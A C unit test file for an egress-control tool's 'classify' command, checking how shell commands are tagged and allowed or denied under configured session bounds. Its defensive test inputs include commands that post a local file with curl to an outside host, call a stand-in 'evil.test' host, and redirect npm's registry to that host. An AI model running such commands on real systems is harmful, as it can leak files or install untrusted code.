/* `egressd classify`: exit statuses, plain and JSON output, and the decision under a session's
 * bound loaded from a real config file. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "classifier/classifier.h"

static char cfg_path[64];
static char out[8192];

static const char config[] =
        "listen:\n"
        "  proxy: [\"127.0.0.1:3128\"]\n"
        "bounds:\n"
        "  gh:\n"
        "    network: {allowDomains: [github.test, \"**.github.test\"], enforce: sandbox}\n"
        "sessions:\n"
        "  default:\n"
        "    bound: {network: {actions: [git:push]}}\n"
        "  agent:\n"
        "    bounds: [gh]\n"
        "    bound: {network: {actions: [git:push]}}\n"
        "  locked:\n"
        "    bound: {network: {actions: [all]}}\n"
        "  pkgs:\n"
        "    bound: {network: {allowDomains: [npm.registry.test, mirror.test], enforce: sandbox}}\n"
        "registries: {npm: npm.registry.test, pypi: pypi.registry.test}\n";

static int setup(void **state)
{
	(void)state;
	/* mkstemp's template: the name, then six 'X' it replaces. */
	int n = snprintf(cfg_path, sizeof cfg_path, "/tmp/cls-cli-");
	memset(cfg_path + n, 'X', 6);
	cfg_path[n + 6] = '\0';
	int fd = mkstemp(cfg_path);
	if (fd == -1)
		return -1;
	if (write(fd, config, sizeof config - 1) != (ssize_t)(sizeof config - 1)) {
		close(fd);
		return -1;
	}
	close(fd);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	unlink(cfg_path);
	return 0;
}

/* Runs cls_cli_main with argv (NULL-terminated), standard output captured into out. */
static int run(const char *const *args)
{
	char *argv[16];
	int argc = 0;
	while (args[argc] != NULL && argc < 15) {
		argv[argc] = (char *)args[argc];
		argc++;
	}
	argv[argc] = NULL;
	fflush(stdout);
	FILE *tmp = tmpfile();
	assert_non_null(tmp);
	int saved = dup(1);
	dup2(fileno(tmp), 1);
	int rc = cls_cli_main(argc, argv);
	fflush(stdout);
	dup2(saved, 1);
	close(saved);
	rewind(tmp);
	size_t n = fread(out, 1, sizeof out - 1, tmp);
	out[n] = '\0';
	fclose(tmp);
	return rc;
}

static void test_plain(void **state)
{
	(void)state;
	assert_int_equal(run((const char *[]){"classify", "--", "git fetch && git push", NULL}), 0);
	assert_string_equal(out, "git:fetch,git:push\n");
	assert_int_equal(run((const char *[]){"classify", "--", "ls", "-la", NULL}), 0);
	assert_string_equal(out, "none\n");
	assert_int_equal(run((const char *[]){"classify", "--", "echo $(", NULL}), 2);
	assert_string_equal(out, "");
}

static void test_json(void **state)
{
	(void)state;
	assert_int_equal(run((const char *[]){"classify", "--json", "--",
	                         "sudo curl -d @f https://Up.Example.test:8443/x", NULL}),
	        0);
	assert_string_equal(out,
	        "{\"tags\":[\"http:write\"],\"programs\":[\"curl\",\"sudo\"],"
	        "\"hosts\":[\"up.example.test\"],\"registries\":[],\"decision\":\"allow\","
	        "\"reason\":\"no session "
	        "given\"}\n");
	assert_int_equal(run((const char *[]){"classify", "--json", "--", "echo \"a", NULL}), 2);
	assert_non_null(strstr(out, "\"decision\":\"refused\""));
	assert_non_null(strstr(out, "unterminated double quote at byte 5"));
	assert_non_null(strstr(out, "\"tags\":[]"));
}

static void test_session_decisions(void **state)
{
	(void)state;
	/* default denies git:push */
	assert_int_equal(
	        run((const char *[]){"classify", "-c", cfg_path, "--", "git push", NULL}), 1);
	assert_string_equal(out, "git:push\n");
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "default",
	                         "--", "git fetch", NULL}),
	        0);
	/* locked: every leaf denied through the parent tag `all` */
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "locked",
	                         "--", "dig x.test", NULL}),
	        1);
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "locked",
	                         "--", "echo curl", NULL}),
	        0);
	/* agent: only github.test hosts allowed */
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "agent",
	                         "--", "git push https://github.test/o/r.git", NULL}),
	        1);
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "agent",
	                         "--json", "--", "curl https://api.github.test/x", NULL}),
	        0);
	assert_non_null(strstr(out, "\"decision\":\"allow\""));
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "agent",
	                         "--json", "--", "curl https://evil.test/x", NULL}),
	        1);
	assert_non_null(strstr(out, "\"decision\":\"deny\""));
	assert_non_null(strstr(out, "host-not-allowed"));
	/* a port the pattern does not cover */
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "agent",
	                         "--", "curl https://github.test:8443/", NULL}),
	        1);
	/* refused beats everything */
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "agent",
	                         "--", "$X", NULL}),
	        2);
}

/* A tool's default registry: the config's registries: names its host, which the session's
 * allowDomains then decides; a family with no host there is said, not denied. */
static void test_registries(void **state)
{
	(void)state;
	/* npm's default registry is allowed in pkgs, pypi's is not */
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "pkgs",
	                         "--json", "--", "npm install", NULL}),
	        0);
	assert_non_null(strstr(out, "\"registries\":[\"registry:npm\"],\"decision\":\"allow\""));
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "pkgs",
	                         "--json", "--", "pip install requests", NULL}),
	        1);
	assert_non_null(strstr(out, "\"registries\":[\"registry:pypi\"]"));
	assert_non_null(strstr(out, "host-not-allowed: the pypi registry (pypi.registry.test:443, "
	                            "registries.pypi)"));
	assert_non_null(strstr(out, "add \\\"pypi.registry.test\\\" to allowDomains"));
	/* a registry named on the line is a plain host: the default is not reached */
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "pkgs",
	                         "--json", "--", "pip install -i https://mirror.test/simple x",
	                         NULL}),
	        0);
	assert_non_null(strstr(out, "\"hosts\":[\"mirror.test\"],\"registries\":[]"));
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "pkgs",
	                         "--", "npm_config_registry=https://evil.test npm ci", NULL}),
	        1);
	/* no host for crates: allowed, and the reason says the registry was not checked */
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "pkgs",
	                         "--json", "--", "cargo fetch", NULL}),
	        0);
	assert_non_null(strstr(out, "\"registries\":[\"registry:crates\"]"));
	assert_non_null(strstr(out, "the host of registry:crates is unknown and was not checked"));
	/* without a session the families are listed all the same */
	assert_int_equal(run((const char *[]){"classify", "--json", "--", "gem install x && docker "
	                                                                  "pull alpine",
	                         NULL}),
	        0);
	assert_non_null(
	        strstr(out, "\"registries\":[\"registry:docker\",\"registry:rubygems\"]"));
}

static void test_usage_errors(void **state)
{
	(void)state;
	assert_int_equal(run((const char *[]){"classify", "--bogus", NULL}), 2);
	assert_int_equal(run((const char *[]){"classify", "--session", "x", "--", "ls", NULL}), 2);
	assert_int_equal(run((const char *[]){"classify", "-c", cfg_path, "--session", "nobody",
	                         "--", "ls", NULL}),
	        2);
	assert_int_equal(run((const char *[]){
	                         "classify", "-c", "/nonexistent/egressd.yaml", "--", "ls", NULL}),
	        2);
	assert_int_equal(run((const char *[]){"classify", "-c", NULL}), 2);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_plain),
	        cmocka_unit_test(test_json),
	        cmocka_unit_test(test_session_decisions),
	        cmocka_unit_test(test_registries),
	        cmocka_unit_test(test_usage_errors),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
